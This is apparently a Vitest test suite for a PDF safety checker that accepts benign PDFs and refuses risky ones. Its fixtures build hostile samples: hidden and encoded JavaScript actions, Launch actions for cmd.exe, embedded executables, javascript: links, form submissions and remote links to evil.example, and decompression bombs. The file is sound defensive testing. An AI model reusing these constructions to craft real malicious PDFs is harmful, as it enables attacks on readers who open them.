import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { samplePdf } from '@dongbo/testing';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { checkPdf } from './check-pdf.ts';

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const sample = (name: string): Buffer => readFileSync(new URL(`../samples/${name}.pdf`, import.meta.url));

/** A stream; `entries` come before its length. */
function stream(entries: string, data: string | Buffer, packed = true): Buffer {
  const bytes = packed ? deflateSync(Buffer.from(data)) : Buffer.from(data);
  const head = `<<${entries}${packed ? '/Filter/FlateDecode' : ''}/Length ${bytes.length}>>stream\n`;
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream ')]);
}

/** A stream of so many times 10 MB of nothing, packed a thousandfold. */
function bomb(entries: string, times: number): Buffer {
  const part = deflateRawSync(Buffer.alloc(10_000_000), { finishFlush: constants.Z_FULL_FLUSH });
  const packed = [
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: times }, () => part),
    deflateRawSync(Buffer.alloc(1)),
  ];
  return stream(`${entries}/Filter/FlateDecode`, Buffer.concat(packed), false);
}

const withLink = (address: string): Buffer =>
  samplePdf({ page: `/Annots[<</Subtype/Link/A<</S/URI/URI(${address})>>>>]` });

const packedObject = (content: string, entries = ''): Buffer =>
  stream(`/Type/ObjStm/N 1/First 4${entries}`, `9 0 ${content}`);

const hidden = (extra: string): Buffer => samplePdf({ objects: [packedObject(script, extra)] });

/** The same bytes with another place in the last line: readers look for objects by themselves. */
const withoutTable = (pdf: Buffer): Buffer =>
  Buffer.from(pdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1');

/** Hides a script inside of the data of a stream, and the table points at it there. */
function tableIntoStream(): Buffer {
  const inner = `9 0 obj${script}endobj`;
  const pdf = samplePdf({ catalog: '/OpenAction 5 0 R', objects: [stream('', `xx ${inner} xx`, false), '<<>>'] });
  const text = pdf.toString('latin1');
  const place = (at: number): string => `${String(at).padStart(10, '0')} 00000 n `;
  return Buffer.from(
    text.replace('9 0 obj', '5 0 obj').replace(place(text.lastIndexOf('5 0 obj')), place(text.indexOf('9 0 obj'))),
    'latin1',
  );
}

describe('taken', () => {
  test.each([
    'content-mentions',
    'empty-embeddedfiles',
    'empty-javascript',
    'form-choice-viet',
    'form-format-js',
    'form-orphan',
    'form-radio',
    'form-sigfield',
    'form-viet-noap',
    'lead-newline',
    'lead-pjl',
    'lead-textmdos',
    'ocg-launch',
    'ownerpw-R4-objstm',
    'ownerpw-R6-objstm',
    'title-html',
    'title-mentions',
  ])('%s', async (name) => {
    expect(await checkPdf(sample(name))).toBeNull();
  });

  const field = (js: string) => `<</AA<</F<</S/JavaScript/JS(${js})>>>>/FT/Tx/T(a)>>`;
  test.each<[string, Buffer]>([
    ['a plain page', samplePdf()],
    ['a link that somebody clicks', samplePdf({ page: '/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.vn)>>>>]' })],
    ['a link to a mailbox', withLink('mailto:tiepnhan@example.vn')],
    ['a link to a page without its scheme', withLink('www.example.vn/thu-tuc')],
    ['a link to a file of the computer on which it was written', withLink('file:///C:/Users/an/don.docx')],
    ['the same with a slash too few', withLink('file://C:/Users/an/don.docx')],
    ['a view to begin with', samplePdf({ catalog: '/OpenAction[3 0 R/Fit]' })],
    ['printing to begin with', samplePdf({ catalog: '/OpenAction<</S/Named/N/Print>>' })],
    ['a word in a string of a packed object', samplePdf({ objects: [packedObject('<</Title(/S/JavaScript/JS x)>>')] })],
    [
      'words in a page',
      samplePdf({ objects: [stream('', 'BT (1 0 obj <</S/JavaScript/JS\\(x\\)>> endobj) Tj ET', false)] }),
    ],
    ['a comment', samplePdf({ mark: '<HTML> /JavaScript /Launch' })],
    ['a mark of structure called Launch', samplePdf({ objects: ['<</Type/StructElem/S/Launch/K 0>>'] })],
    [
      'a picture called JS',
      samplePdf({
        page: '/Resources<</XObject<</JS 4 0 R>>>>',
        objects: [stream('/Subtype/Image/Width 1/Height 1', 'x')],
      }),
    ],
    [
      'an XFA form without scripts',
      samplePdf({
        catalog: '/AcroForm<</XFA 4 0 R>>',
        objects: [stream('', '<xdp><field name="description"/></xdp>')],
      }),
    ],
    [
      'a list of files that is empty',
      samplePdf({ catalog: '/Names<</EmbeddedFiles 4 0 R>>', objects: ['<</Names[]/Limits[()()]>>'] }),
    ],
    ['a time format', samplePdf({ objects: [field('AFTime_Keystroke\\(0\\);')] })],
    ['a number format', samplePdf({ objects: [field('AFNumber_Format\\(2, 1, 0, 0, "\\\\u20ac", true\\);')] })],
    ['a sum', samplePdf({ objects: [field('AFSimple_Calculate\\("SUM", new Array \\("a", "b"\\)\\);')] })],
    ['no end', Buffer.from(samplePdf().toString('latin1').replace('%%EOF', ''), 'latin1')],
    ['a wrong table', withoutTable(samplePdf())],
    ['zeros behind', Buffer.concat([samplePdf(), Buffer.alloc(700)])],
    ['an array with more items than a call has arguments', samplePdf({ objects: [`[${'1 '.repeat(200_000)}]`] })],
  ])('%s', async (_, pdf) => {
    expect(await checkPdf(pdf)).toBeNull();
  });

  test('large scans: 248 MB of grey, 209 MB of colour when unpacked', async () => {
    const scan = (space: string, width: number, height: number, tens: number) =>
      samplePdf({
        objects: [
          bomb(
            `/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/${space}/Width ${width}/Height ${height}`,
            tens,
          ),
        ],
      });
    expect(await checkPdf(scan('DeviceGray', 13_244, 18_724, 25))).toBeNull();
    expect(await checkPdf(scan('DeviceRGB', 7016, 9933, 21))).toBeNull();
  });
});

describe('refused with its cause', () => {
  test.each<[string, string, Buffer]>([
    ['password', 'a password to open (R4)', sample('userpw-R4-plain')],
    ['password', 'a password to open (R6)', sample('userpw-R6-plain')],
    ['password', 'a certificate', samplePdf({ trailer: '/Encrypt<</Filter/Adobe.PubSec/V 4>>' })],
    ['script', 'a script to begin with', samplePdf({ catalog: `/OpenAction${script}` })],
    ['script', 'a name in other letters', samplePdf({ catalog: '/OpenAction<</S/J#61vaScript/JS(x)>>' })],
    [
      'script',
      'the kind of action by reference',
      samplePdf({ catalog: '/OpenAction<</S 4 0 R/JS(x)>>', objects: ['/JavaScript '] }),
    ],
    ['script', 'a kind said twice', samplePdf({ catalog: '/OpenAction<</S/JavaScript/S/GoTo/JS(x)>>' })],
    [
      'script',
      'a script in a stream',
      samplePdf({ objects: ['<</S/JavaScript/JS 5 0 R>>', stream('', 'app.alert(1)')] }),
    ],
    [
      'script',
      'a script in a stream of LZW',
      samplePdf({
        objects: [
          '<</S/JavaScript/JS 5 0 R>>',
          stream('/Filter/LZWDecode', Buffer.from('800b6050220c0c8501', 'hex'), false),
        ],
      }),
    ],
    ['script', 'a list of scripts', samplePdf({ catalog: '/Names<</JavaScript<</Names[(a)<</JS(x)>>]>>>>' })],
    ['script', 'packed', hidden('')],
    ['script', 'packed behind 5 KB of text', hidden(`/X(${'x'.repeat(5000)})`)],
    ['script', 'packed behind the word obj', hidden('/X(1 0 obj)')],
    ['script', 'packed behind 5 KB of remarks', hidden(`%${'x'.repeat(5000)}\n`)],
    [
      'script',
      'packed twice',
      samplePdf({
        objects: [
          stream(
            '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]',
            deflateSync(deflateSync(`9 0 ${script}`)),
            false,
          ),
        ],
      }),
    ],
    [
      'script',
      'packed in hexadecimal digits',
      samplePdf({
        objects: [
          stream(
            '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode]',
            `${Buffer.from(`9 0 ${script}`).toString('hex')}>`,
            false,
          ),
        ],
      }),
    ],
    ['script', 'packed without saying so', samplePdf({ objects: [stream('/N 1/First 4', `9 0 ${script}`)] })],
    [
      'script',
      'packed, the filter by reference',
      samplePdf({
        objects: [
          stream('/Type/ObjStm/N 1/First 4/Filter 5 0 R', deflateSync(`9 0 ${script}`), false),
          '/FlateDecode ',
        ],
      }),
    ],
    [
      'script',
      'in an older revision',
      Buffer.concat([
        samplePdf({ catalog: `/OpenAction${script}` }),
        Buffer.from('1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n'),
      ]),
    ],
    ['script', 'in data to which the table points', tableIntoStream()],
    [
      'script',
      'in data, and the table is no good',
      withoutTable(samplePdf({ objects: [stream('', `\n9 0 obj${script}endobj\n`, false)] })),
    ],
    [
      'script',
      'swallowed by a string that does not end',
      samplePdf({ catalog: '/OpenAction 5 0 R', objects: ['(', script] }),
    ],
    [
      'script',
      'a format and more',
      samplePdf({ objects: ['<</S/JavaScript/JS(AFDate_FormatEx\\("dd/mm/yyyy"\\);app.launchURL\\("x"\\))>>'] }),
    ],
    [
      'script',
      'an XFA form with a script',
      samplePdf({
        catalog: '/AcroForm<</XFA[(a)4 0 R]>>',
        objects: [stream('', '<event><xfa:script contentType="application/x-javascript">1</xfa:script></event>')],
      }),
    ],
    [
      'script',
      'an XFA form whose script is parted over two of its parts',
      samplePdf({
        catalog: '/AcroForm<</XFA[(a)4 0 R(b)5 0 R]>>',
        objects: [stream('', '<event><scr'), stream('', 'ipt>app.alert(1)</script></event>')],
      }),
    ],
    [
      'script',
      'an XFA form of two bytes a letter, without a mark that says so',
      samplePdf({
        catalog: '/AcroForm<</XFA 4 0 R>>',
        objects: [stream('', Buffer.from('<event><script>1</script></event>', 'utf16le'))],
      }),
    ],
    ['script', 'a link that runs what stands in it', withLink('java\\nscript:app.alert\\(1\\)')],
    ['script', 'a link that holds its page', withLink('data:text/html,<script>1</script>')],
    ['remote', 'a link to a share of another machine', withLink('\\\\\\\\evil.example\\\\x')],
    ['remote', 'the same written as an address', withLink('file://evil.example/x')],
    [
      'damaged',
      'objects packed in two ways, of which each reader takes another',
      samplePdf({
        objects: [
          stream(
            '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Filter/FlateDecode',
            deflateSync(`9 0 ${script}`),
            false,
          ),
        ],
      }),
    ],
    ['launch', 'a program', samplePdf({ objects: [packedObject('<</S/Launch/Win<</F(cmd.exe)>>>>')] })],
    ['media', 'a 3D view', samplePdf({ page: '/Annots[<</Subtype/3D/3DD 4 0 R>>]' })],
    ['media', 'a film', samplePdf({ page: '/Annots[<</Subtype/Movie>>]' })],
    ['media', 'rich media', samplePdf({ page: '/Annots[<</Subtype/RichMedia>>]' })],
    [
      'media',
      'a sound',
      samplePdf({ page: '/Annots[<</Subtype/Link/A<</S/Sound/Sound 4 0 R>>>>]', objects: [stream('/R 8000', 'x')] }),
    ],
    ['attachment', 'a file inside', samplePdf({ objects: [stream('/Type/EmbeddedFile', 'MZ')] })],
    [
      'attachment',
      'a file pinned to the page',
      samplePdf({
        page: '/Annots[<</Subtype/FileAttachment/FS<</F(evil.exe)/EF<</F 4 0 R>>>>>>]',
        objects: [stream('', 'MZ')],
      }),
    ],
    [
      'attachment',
      'an associated file',
      samplePdf({ catalog: '/AF[<</F(a.xml)/EF<</F 4 0 R>>>>]', objects: [stream('', '<a/>')] }),
    ],
    ['attachment', 'a portfolio', samplePdf({ catalog: '/Collection<</View/T>>' })],
    ['remote', 'an address to begin with', samplePdf({ catalog: '/OpenAction<</S/URI/URI(http://evil.example)>>' })],
    [
      'remote',
      'an address when the page is shown',
      samplePdf({ page: '/AA<</O<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>>>>>' }),
    ],
    [
      'remote',
      'a form that is sent away',
      samplePdf({ objects: ['<</S/SubmitForm/F<</FS/URL/F(http://evil.example)>>>>'] }),
    ],
    [
      'remote',
      'another file',
      samplePdf({ page: '/Annots[<</Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>>>]' }),
    ],
    ['remote', 'data from elsewhere', samplePdf({ objects: [stream('/F(http://evil.example/x)', '')] })],
    [
      'web-page',
      'a web page in front',
      Buffer.concat([Buffer.from('%PDF-1.4\n<html><script>alert(1)</script>\n'), samplePdf()]),
    ],
    ['unpacked', '300 MB of objects', samplePdf({ objects: [bomb('/Type/ObjStm/N 1/First 4', 30)] })],
    ['unpacked', '300 MB of drawing', samplePdf({ objects: [bomb('', 30)] })],
    [
      'unpacked',
      'a picture of ten thousand million points',
      samplePdf({ objects: [stream('/Subtype/Image/Width 100000/Height 100000', 'x')] }),
    ],
    ['damaged', 'no object', Buffer.from('%PDF-1.7\nhello\n%%EOF\n')],
    ['damaged', 'no page', Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')],
    ['damaged', 'cut off', samplePdf({ objects: [stream('', 'x'.repeat(1000), false)] }).subarray(0, 60)],
    [
      'damaged',
      'objects packed as a photograph',
      samplePdf({ objects: [stream('/Type/ObjStm/N 1/First 4/Filter/DCTDecode', 'x', false)] }),
    ],
    ['damaged', 'a million beginnings', Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(7_000_000, 'stream ')])],
    ['complex', 'brackets without end', samplePdf({ objects: ['['.repeat(100_000)] })],
  ])('%s: %s', async (fault, _, pdf) => {
    expect(await checkPdf(pdf)).toBe(fault);
  });
});

const hasQpdf = ((): boolean => {
  try {
    execFileSync('which', ['qpdf'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

describe.skipIf(!hasQpdf)('encrypted without a password to open', () => {
  let folder: string;
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'check-pdf-'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  const ways: readonly (readonly [string, readonly string[]])[] = [
    ['RC4, 40 bits', ['--allow-weak-crypto', '--encrypt', '', 'o', '40', '--']],
    ['RC4, 128 bits', ['--allow-weak-crypto', '--encrypt', '', 'o', '128', '--']],
    ['AES, 128 bits', ['--allow-weak-crypto', '--encrypt', '', 'o', '128', '--use-aes=y', '--']],
    [
      'AES, 128 bits, metadata in the open',
      ['--allow-weak-crypto', '--encrypt', '', 'o', '128', '--use-aes=y', '--cleartext-metadata', '--'],
    ],
    ['AES, 256 bits, revision 5', ['--allow-weak-crypto', '--encrypt', '', 'o', '256', '--force-R5', '--']],
    ['AES, 256 bits', ['--encrypt', '', 'o', '256', '--']],
  ];

  function encrypted(pdf: Buffer, way: readonly string[], packed: boolean): Buffer {
    const [from, to] = [join(folder, 'from.pdf'), join(folder, 'to.pdf')];
    writeFileSync(from, pdf);
    execFileSync('qpdf', [`--object-streams=${packed ? 'generate' : 'preserve'}`, ...way, from, to]);
    return readFileSync(to);
  }

  test.each(ways)('%s: opened and looked into', async (_, way) => {
    for (const packed of [false, true]) {
      expect(await checkPdf(encrypted(samplePdf(), way, packed))).toBeNull();
      expect(await checkPdf(encrypted(sample('form-format-js'), way, packed))).toBeNull();
      expect(await checkPdf(encrypted(samplePdf({ catalog: `/OpenAction${script}` }), way, packed))).toBe('script');
    }
  });
});
